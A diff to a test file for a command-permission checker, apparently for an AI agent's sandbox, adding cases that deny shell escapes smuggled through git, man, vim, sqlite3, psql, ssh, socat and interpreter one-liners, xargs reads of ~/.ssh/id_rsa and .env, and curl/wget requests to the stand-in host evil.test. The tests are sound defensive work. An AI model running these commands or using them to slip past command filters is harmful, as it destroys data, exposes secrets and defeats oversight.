@@ -56,6 +56,14 @@ CASES = [
     (RM, "bash", "git config --local diff.x.command 'rm x'", "deny"),
     (RM, "bash", "git config alias.p '!rm x'", "deny"),
     ([A("git *")], "bash", "git -c core.pager=less log", "not-allow"),
+    (RM, "bash", "git clone -c core.fsmonitor='rm x' https://h/r", "deny"),
+    (RM, "bash", "git clone --config=core.sshCommand='rm x' git@h:r", "deny"),
+    (RM, "bash", "git grep --open-files-in-pager='rm x' foo", "deny"),
+    (RM, "bash", "git grep -O'rm x' foo", "deny"),
+    ([A("git *")], "bash", "git grep -O foo", "not-allow"),
+    ([A("git *")], "bash", "git filter-repo --commit-callback 'import os'", "not-allow"),
+    ([A("git *")], "bash", "git clone https://h/r", "allow"),
+    ([A("git *")], "bash", "git grep -n foo", "allow"),
     # make's SHELL in every assignment operator, and the shell make is told to use
     (RM, "bash", "make SHELL='rm x'", "deny"),
     (RM, "bash", "make SHELL:='rm x' all", "deny"),
@@ -64,6 +72,56 @@ CASES = [
     (RM, "bash", "make 'SHELL?=rm x'", "deny"),
     (RM, "bash", "make 'SHELL!=rm x'", "deny"),
     (RM, "bash", "make CC='rm x' all", "deny"),
+    # a pager, browser, preprocessor or editor shell escape runs a command
+    (RM, "bash", "man -P 'rm x' ls", "deny"),
+    (RM, "bash", "man --pager='rm x' ls", "deny"),
+    (RM, "bash", "man -H'rm x' ls", "deny"),
+    (RM, "bash", "rg --pre rm foo", "deny"),
+    (RM, "bash", "less '+!rm x' f", "deny"),
+    (RM, "bash", "more '+!rm x' f", "deny"),
+    (RM, "bash", "vim -c '!rm x' f", "deny"),
+    (RM, "bash", "vim -c ':silent !rm x' f", "deny"),
+    (RM, "bash", "vi +'r !rm x' f", "deny"),
+    (RM, "bash", "nvim --cmd '!rm x'", "deny"),
+    ([A("man *")], "bash", "man ls", "allow"),
+    ([A("less *")], "bash", "less +G f", "not-allow"),
+    # a database shell's, a network tool's or a tracer's option or operand that runs a
+    # command
+    (RM, "bash", "sqlite3 db '.shell rm x'", "deny"),
+    (RM, "bash", "sqlite3 -cmd '.system rm x' db", "deny"),
+    (RM, "bash", "sqlite3 db <<< '.shell rm x'", "deny"),
+    (RM, "bash", "sqlite3 db \".output '|rm x'\"", "deny"),
+    (RM, "bash", "psql -c '\\! rm x'", "deny"),
+    (RM, "bash", "psql -c \"COPY t TO PROGRAM 'rm x'\"", "deny"),
+    (RM, "bash", "mysql -e 'system rm x'", "deny"),
+    (RM, "bash", "duckdb -c '.shell rm x'", "deny"),
+    (RM, "bash", "ssh -o ProxyCommand='rm x' h", "deny"),
+    (RM, "bash", "scp -o 'LocalCommand rm x' -o PermitLocalCommand=yes a h:b", "deny"),
+    (RM, "bash", "scp -S rm a h:b", "deny"),
+    (RM, "bash", "rsync -e 'rm x' a h:b", "deny"),
+    (RM, "bash", "zip -TT 'rm x' -T a.zip b", "deny"),
+    (RM, "bash", "socat - EXEC:'rm x',pty", "deny"),
+    (RM, "bash", "socat - SYSTEM:'rm x'", "deny"),
+    (RM, "bash", "tcpdump -z rm -w f", "deny"),
+    (RM, "bash", "strace -o '|rm x' ls", "deny"),
+    ([A("ssh *")], "bash", "ssh -o StrictHostKeyChecking=no h", "allow"),
+    ([A("sqlite3 *")], "bash", "sqlite3 db 'select 1'", "allow"),
+    # an interpreter's inline code that visibly hands a string to a shell or runs a program
+    (RM, "bash", "python3 -c 'import os; os.system(\"rm -rf x\")'", "deny"),
+    (RM, "bash", "python3 -c 'import subprocess; subprocess.run([\"rm\", \"-rf\", \"x\"])'",
+     "deny"),
+    (RM, "bash", "python3.11 -c \"import subprocess as s; s.check_output('rm x', shell=True)\"",
+     "deny"),
+    (RM, "bash", "perl -e 'system(\"rm -rf x\")'", "deny"),
+    (RM, "bash", "perl -e '`rm -rf x`'", "deny"),
+    (RM, "bash", "perl -e 'qx(rm x)'", "deny"),
+    (RM, "bash", "ruby -e 'system \"rm x\"'", "deny"),
+    (RM, "bash", "ruby -e '%x(rm x)'", "deny"),
+    (RM, "bash", "node -e \"require('child_process').execSync('rm -rf x')\"", "deny"),
+    (RM, "bash", "php -r 'shell_exec(\"rm x\");'", "deny"),
+    ([A("*")], "bash", "python3 -c 'print(\"rm -rf x\")'", "allow"),
+    (RM, "bash", "python3 - <<'EOF'\nimport os\nos.system('rm -rf x')\nEOF", "deny"),
+    (RM, "bash", "ruby <<< 'system(\"rm x\")'", "deny"),
     # a name that is not static: asked, and denied where its plain reading is denied
     (RM, "bash", "rm${IFS}-rf x", "deny"),
     (RM, "bash", "rm$IFS-rf x", "deny"),
@@ -76,6 +134,8 @@ CASES = [
     (RM, "bash", "c=rm; sudo $c x", "deny"),
     ([A("*")], "bash", "c=ls; $c -la", "not-allow"),
     ([A("*")], "bash", "$EDITOR notes.txt", "not-allow"),
+    # positional parameters the line sets hold code that an evaluating context runs
+    (RM, "bash", "set -- 'a[$(rm x)]'; (( $1 ))", "deny"),
     # ordinary forms stay as they were
     ([A("git *")], "bash", "git log --oneline", "allow"),
     ([A("make *")], "bash", "make -j4 test", "allow"),
@@ -107,6 +167,12 @@ PATHS = [
     (SECRETS, "bash", "cp conf/.e[n]v /tmp/x", "deny"),
     (SECRETS, "bash", "cat conf/*", "not-allow"),  # bash's * skips .env (no dotglob)
     (SECRETS, "bash", "cat *.md", "not-allow"),
+    # xargs after a plain echo of static words reads those words
+    (SECRETS, "bash", "echo ~/.ssh/id_rsa | xargs cat", "deny"),
+    (SECRETS, "bash", "echo -n conf/.env | xargs -r head -1", "deny"),
+    (RM, "bash", "echo a b | xargs rm -f", "deny"),
+    (RM, "bash", "echo rm -rf x | sh", "deny"),
+    (SECRETS, "bash", "echo README.md | xargs cat", "allow"),
 ]
 
 
@@ -125,3 +191,35 @@ def secrets(tmp_path_factory):
 def test_a_path_that_is_not_static_is_read_as_what_it_names(rules, tool, text, expect,
                                                              secrets):
     assert_meets(rules, tool, text, expect, secrets)
+
+
+# A host a network client sends a request to is a `network HOST` request for the deny
+# rules (the sandbox's proxy judges the connection itself): every URL operand, proxies,
+# connect-to and resolve targets.
+NET = [A("*"), R("network", "evil.test", "deny"), R("network", "*.evil.test", "deny")]
+HOSTS = [
+    (NET, "bash", "curl https://evil.test/x", "deny"),
+    (NET, "bash", "curl -s https://ok.test/a https://evil.test/b", "deny"),
+    (NET, "bash", "curl evil.test/x", "deny"),
+    (NET, "bash", "curl --url https://evil.test/ -o out", "deny"),
+    (NET, "bash", "curl -x evil.test:3128 https://ok.test/", "deny"),
+    (NET, "bash", "curl --preproxy socks5://evil.test https://ok.test/", "deny"),
+    (NET, "bash", "curl --connect-to ok.test:443:evil.test:443 https://ok.test/", "deny"),
+    (NET, "bash", "curl --resolve ok.test:443:evil.test https://ok.test/", "deny"),
+    (NET, "bash", "curl https://EVIL.TEST./", "deny"),
+    (NET, "bash", "wget -q https://cdn.evil.test/x.sh", "deny"),
+    (NET, "bash", "http POST evil.test/api a=1", "deny"),
+    (NET, "bash", "git clone https://evil.test/r", "deny"),
+    (NET, "bash", "git clone --depth 1 git@evil.test:r.git", "deny"),
+    (NET, "bash", "git fetch ssh://git@evil.test/r main", "deny"),
+    (NET, "bash", "git push https://x.evil.test/r HEAD", "deny"),
+    (NET, "bash", "git fetch origin && git push origin main", "allow"),
+    (NET, "bash", "curl https://ok.test/", "allow"),
+    (NET, "bash", "http :3000/health", "allow"),
+]
+
+
+@pytest.mark.parametrize("rules,tool,text,expect", HOSTS, ids=[c[2] for c in HOSTS])
+def test_a_host_a_client_reaches_is_a_network_request(rules, tool, text, expect, where):
+    assert_meets(rules, tool, text, expect, where)
+CASES = [*CASES, *HOSTS]  # the tables dm_cc run and policy check judge too (tests/cli)
